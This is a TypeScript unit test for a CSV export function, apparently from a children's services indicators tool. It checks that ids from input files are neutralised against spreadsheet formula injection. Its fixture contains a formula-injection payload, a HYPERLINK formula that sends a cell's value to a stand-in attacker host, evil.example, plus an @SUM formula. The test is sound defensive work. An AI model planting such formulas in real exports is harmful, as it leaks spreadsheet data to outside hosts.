import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import type { IsoDate } from '../calendar/iso-date.js';
import { membersCsv } from './members-csv.js';

// The child and record ids of `cspi indicators --members` come from the input files: a hostile one must not
// reach a spreadsheet as a formula (src/csv/spreadsheet-csv.ts).
test('membersCsv neutralises a child or record id a spreadsheet would run, and leaves ordinary rows alone', () => {
  const text = membersCsv([
    {
      childId: '=HYPERLINK("https://evil.example/?"&A3,"Open")',
      recordIds: ['@SUM(A1)', 'r2'],
      dates: { referralDate: '2021-11-15' as IsoDate },
      inNumerator: true,
      reason: 'Met: 1 day',
    },
    {
      childId: 'C01002',
      recordIds: ['r3'],
      dates: { referralDate: '2021-12-01' as IsoDate },
      inNumerator: false,
      reason: 'x',
    },
  ]);
  const rows = parse(text) as string[][];
  assert.deepEqual(rows[0], ['child_id', 'in_numerator', 'record_ids', 'referralDate', 'reason']);
  assert.deepEqual(rows[1], [
    `'=HYPERLINK("https://evil.example/?"&A3,"Open")`,
    'Y',
    "'@SUM(A1);r2",
    '2021-11-15',
    'Met: 1 day',
  ]);
  assert.deepEqual(rows[2], ['C01002', 'N', 'r3', '2021-12-01', 'x']);
});
